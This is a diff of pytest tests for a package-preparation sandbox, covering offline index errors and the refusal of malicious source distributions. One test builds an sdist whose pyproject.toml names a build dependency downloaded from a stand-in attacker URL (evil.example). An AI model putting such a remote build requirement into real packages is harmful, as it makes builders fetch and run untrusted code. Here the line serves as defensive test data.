@@ -8,10 +8,11 @@ from pathlib import Path
 import pytest
 
 from clearinghouse.config import Settings
-from clearinghouse.sandbox import index, prepare, service
+from clearinghouse.sandbox import index, prepare, sdist, service
 from clearinghouse.sandbox.interface import InvalidRequest, Limits, RunRequest
 from tests.sandbox.conftest import out
 from tests.sandbox.test_index import closed_port, only_index
+from tests.sandbox.test_sdist import make_sdist
 
 
 @pytest.mark.parametrize(
@@ -122,4 +123,24 @@ def test_without_an_index_an_sdist_cannot_be_prepared(
     with pytest.raises(prepare.PrepareError, match="cannot fetch wheels for setuptools"):
         prepare.prepare_wheelhouse(tmp_path / "cache", ["evilpkg==1.0"], timeout=120)
     assert not mark.exists()
+    # A pin missing from those folders is not proven missing everywhere: not NoSuchRelease.
+    with pytest.raises(index.IndexUnreachable, match="pip is set to use no index"):
+        prepare.prepare_wheelhouse(tmp_path / "cache", ["six==1.16.0"], timeout=120)
     assert not any((tmp_path / "cache").glob("*/requirements.txt"))
+
+
+def test_an_sdist_that_names_a_url_to_build_with_is_refused_before_anything_is_fetched(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    links = tmp_path / "links"
+    links.mkdir()
+    make_sdist(
+        links,
+        {"pyproject.toml": '[build-system]\nrequires = ["b @ https://evil.example/b.whl"]\n'},
+        "urlbuild-1.0.tar.gz",
+    )
+    monkeypatch.setenv("PIP_NO_INDEX", "1")
+    monkeypatch.setenv("PIP_FIND_LINKS", str(links))
+    with pytest.raises(sdist.SdistUnusable, match=r"the sdist of urlbuild==1\.0 cannot be built"):
+        prepare.prepare_wheelhouse(tmp_path / "cache", ["urlbuild==1.0"])
+    assert not any((tmp_path / "cache").iterdir())
